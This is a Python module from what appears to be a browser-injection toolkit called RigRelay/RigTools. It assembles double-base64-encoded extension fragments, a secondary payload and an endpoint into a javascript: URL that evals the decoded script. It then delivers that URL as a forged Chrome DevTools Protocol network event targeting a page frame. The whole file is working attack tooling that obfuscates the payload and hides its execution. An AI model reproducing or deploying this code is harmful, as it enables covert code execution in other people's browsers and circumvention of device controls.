"""
RIGRELAY - Payload Assembly

Two-stage encoding pipeline:

1. Each fragment (and the secondary payload) is UTF-8 encoded and base64'd,
   then substituted into the template in a fixed order. The endpoint is
   substituted raw, last.
2. The whole substituted script is base64'd again and wrapped in a
   ``javascript:`` locator that decodes and evaluates it.

Decoding runs in the reverse order: outer wrapper first, then fragments.
"""

import base64
import itertools
import re
import time
from dataclasses import dataclass
from typing import Any, Optional

from rigrelay.content import (
    MARKER_CHROME_PAYLOAD,
    MARKER_ENDPOINT,
    MARKER_EXT_HTML,
    MARKER_EXT_JS,
    MARKER_HTML_ENTRY,
    ContentStore,
)
from rigrelay.errors import AssemblyError

UNKNOWN_FRAME = "unknown-frame"

JAVASCRIPT_URL_TEMPLATE = (
    "javascript:/* RigTools Payload Injection */ "
    "(function(){{try{{eval(decodeURIComponent(escape(atob(\"{payload}\"))))}}"
    "catch(e){{console.error('Payload Execution Failed:',e)}}}})()"
)

_JAVASCRIPT_URL_RE = re.compile(r'atob\("([A-Za-z0-9+/=]*)"\)')

# Distinguishes ids minted within the same millisecond
_sequence = itertools.count(1)


def encode_text(text: str) -> str:
    """UTF-8 encode then base64; safe for any unicode text."""
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def decode_text(data: str) -> str:
    return base64.b64decode(data, validate=True).decode("utf-8")


def replace_all(text: str, marker: str, value: str) -> str:
    """Replace every exact occurrence of ``marker``."""
    if not marker:
        raise ValueError("marker must be non-empty")
    return text.replace(marker, value)


@dataclass(frozen=True)
class Substitution:
    marker: str
    value: str


def substitutions(store: ContentStore) -> list[Substitution]:
    """The ordered substitution list for a store."""
    return [
        Substitution(MARKER_EXT_JS, encode_text(store.fragment_a)),
        Substitution(MARKER_EXT_HTML, encode_text(store.fragment_b)),
        Substitution(MARKER_HTML_ENTRY, encode_text(store.fragment_c)),
        Substitution(MARKER_CHROME_PAYLOAD, encode_text(store.secondary_payload)),
        Substitution(MARKER_ENDPOINT, store.endpoint),
    ]


def render_script(store: ContentStore) -> str:
    """Apply each substitution once, in order, to the template."""
    script = store.template_script
    for sub in substitutions(store):
        script = replace_all(script, sub.marker, sub.value)
    return script


def build_javascript_url(script: str) -> str:
    """Wrap a script in the outer base64 layer and the evaluating locator."""
    return JAVASCRIPT_URL_TEMPLATE.format(payload=encode_text(script))


def decode_javascript_url(url: str) -> str:
    """Recover the script embedded by :func:`build_javascript_url`."""
    match = _JAVASCRIPT_URL_RE.search(url)
    if not url.startswith("javascript:") or not match:
        raise ValueError("not an assembled javascript: locator")
    return decode_text(match.group(1))


def _fresh_id(prefix: str, now_ms: int) -> str:
    return f"{prefix}-{now_ms}-{next(_sequence)}"


class PayloadAssembler:
    """
    Builds injection event params from a ContentStore.

    The store is read-only; a single assembler is shared by all connections.

    Usage:
        assembler = PayloadAssembler(store)
        params = assembler.assemble(frame_id="F1")
    """

    def __init__(self, store: ContentStore, clock=time.time):
        self.store = store
        self._clock = clock

    def javascript_url(self) -> str:
        return build_javascript_url(render_script(self.store))

    def assemble(self, frame_id: Optional[Any] = None) -> dict:
        """
        Build the ``params`` object of a ``Network.requestWillBeSent`` event.

        ``frame_id`` is echoed unchanged; a falsy value becomes ``unknown-frame``.

        Raises:
            AssemblyError: wrapping whatever failed; never retried.
        """
        try:
            javascript_url = self.javascript_url()

            now = self._clock()
            now_ms = int(now * 1000)
            return {
                "requestId": _fresh_id("inject", now_ms),
                "loaderId": _fresh_id("loader", now_ms),
                "documentURL": "about:blank",
                "timestamp": now,
                "wallTime": now,
                "initiator": {"type": "script"},
                "type": "Script",
                "frameId": frame_id or UNKNOWN_FRAME,
                "hasUserGesture": False,
                "request": {
                    "url": javascript_url,
                    "method": "GET",
                    "headers": {},
                    "initialPriority": "High",
                    "referrerPolicy": "strict-origin-when-cross-origin",
                },
            }
        except Exception as e:
            raise AssemblyError(str(e)) from e
